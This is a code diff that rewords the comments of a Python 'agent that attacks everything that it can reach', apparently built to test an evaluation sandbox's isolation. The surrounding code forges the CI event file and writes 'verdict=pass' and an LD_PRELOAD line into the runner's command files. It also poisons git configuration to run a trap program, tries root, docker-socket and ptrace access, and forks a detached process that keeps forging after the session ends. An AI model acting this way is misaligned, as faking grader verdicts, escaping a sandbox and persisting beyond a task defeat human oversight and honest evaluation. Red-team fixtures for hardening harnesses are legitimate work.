@@ -1,4 +1,4 @@
-"""An agent that attacks everything that it can reach, and writes down what it got."""
+"""An agent that attacks everything that it can reach, and writes the results to a file."""
 
 import ctypes
 import json
@@ -17,12 +17,12 @@ EVIL = "LD_PRELOAD=/github/workspace/evil.so\nverdict=pass\nexit-code=0\n"
 ENGINES = ("/var/run/docker.sock", "/run/docker.sock")
 PTRACE_ATTACH = 16
 _NOT_OURS = os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK | os.O_NOFOLLOW
-# Neither wait at pipes of our own nor follow links of our own.
+# Neither wait for pipes nor follow links that this agent itself created.
 GATES = ("/opt/venv/bin/evalgate", "/opt/venv/pyvenv.cfg", "/usr/local/bin/evalgate", "/etc/passwd")
 
 
 def answer(text: str) -> str:
-    """Attack once with every means, leave a process that goes on with it, and answer something wrong."""
+    """Try every attack once, leave a process that continues to attack, and answer wrongly."""
     loot = attack()
     Path("loot.json").write_text(json.dumps(loot), "utf-8")
     go_on()
@@ -30,7 +30,7 @@ def answer(text: str) -> str:
 
 
 def attack() -> dict[str, object]:
-    """Try everything; whatever succeeds stands in what is returned."""
+    """Try every attack, and return which of them succeed."""
     forge_event()
     forge_commands()
     poison_git()
@@ -59,7 +59,7 @@ def attack() -> dict[str, object]:
 
 
 def changes() -> dict[str, tuple[Callable[..., object], object]]:
-    """Ways to be somebody else."""
+    """Return the functions, with arguments, that would change the user or the groups of this process, by name."""
     groups = {Path(path).stat().st_gid for path in ENGINES if Path(path).exists()}
     return {
         "root": (os.setuid, 0),
@@ -69,14 +69,14 @@ def changes() -> dict[str, tuple[Callable[..., object], object]]:
 
 
 def forge_event() -> None:
-    """Name another pull request and another commit."""
+    """Try to write another pull request and another commit into the event file."""
     forged = json.dumps({"pull_request": {"number": 666, "head": {"sha": "e" * 40}}})
     succeeds(EVENT.unlink)
     succeeds(EVENT.write_text, forged)
 
 
 def forge_commands() -> None:
-    """Write the runner's command files, or put something else in their places."""
+    """Try to write the runner's command files, or to replace them by a link, a pipe or another file."""
     for file in sorted(COMMANDS.glob("*")):
         succeeds(append, file, EVIL)
         succeeds(file.unlink)
@@ -93,7 +93,7 @@ def forge_commands() -> None:
 
 
 def poison_git() -> None:
-    """Let the next git run a program of ours."""
+    """Change git's configuration and hooks so that the next git command runs the program TRAP."""
     for key in ("sshCommand", "fsmonitor", "gitProxy", "pager", "askPass", "alternateRefsCommand"):
         _git("config", f"core.{key}", str(TRAP))
     for key in ("remote.origin.uploadpack", "remote.origin.receivepack", "gpg.program", "diff.external"):
@@ -108,12 +108,12 @@ def poison_git() -> None:
 
 
 def _git(*words: str) -> None:
-    # The image's git serves the agent as well.
+    # The agent can use the git of the image, too.
     subprocess.run(["git", *words], check=False, capture_output=True)
 
 
 def go_on() -> None:
-    """Leave a process outside of the group that forges as long as it lives."""
+    """Leave a process in its own session that forges the files again and again, for 60 seconds."""
     if os.fork():
         return
     os.setsid()
@@ -130,7 +130,7 @@ def go_on() -> None:
 
 
 def peek(path: Path) -> str:
-    """What is there; "" when that is not for us."""
+    """Return the content of a file or the entries of a folder; "" if it may not be read."""
     try:
         if path.is_dir():
             return " ".join(
@@ -143,7 +143,7 @@ def peek(path: Path) -> str:
 
 
 def is_foreign(pid: int) -> bool:
-    """Whether a process is another user's: one of our own would stay stopped."""
+    """Return True if a process belongs to another user. An own process would stay stopped by `trace`."""
     try:
         return Path(f"/proc/{pid}").stat().st_uid != os.getuid()
     except OSError:
@@ -151,7 +151,7 @@ def is_foreign(pid: int) -> bool:
 
 
 def trace(pid: int) -> bool:
-    """Whether a process can be stopped and read."""
+    """Return True if a process can be traced, or its memory can be read."""
     libc = ctypes.CDLL(None, use_errno=True)
     if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
         return True
@@ -165,7 +165,7 @@ def trace(pid: int) -> bool:
 
 
 def engine_answers(path: str) -> bool:
-    """Whether the container engine lets us in."""
+    """Return True if a container engine accepts a connection at the socket `path`."""
     with socket.socket(socket.AF_UNIX) as client:
         try:
             client.connect(path)
@@ -175,7 +175,7 @@ def engine_answers(path: str) -> bool:
 
 
 def append(path: Path, text: str) -> None:
-    """Add to the end of a file."""
+    """Append to a file, without following a link or waiting for a pipe."""
     descriptor = os.open(path, _NOT_OURS)
     try:
         os.write(descriptor, text.encode())
@@ -184,7 +184,7 @@ def append(path: Path, text: str) -> None:
 
 
 def succeeds(action: Callable[..., object], *arguments: object) -> bool:
-    """Whether nothing hindered it."""
+    """Call `action`, and return True if it raises no OSError."""
     try:
         action(*arguments)
     except OSError:
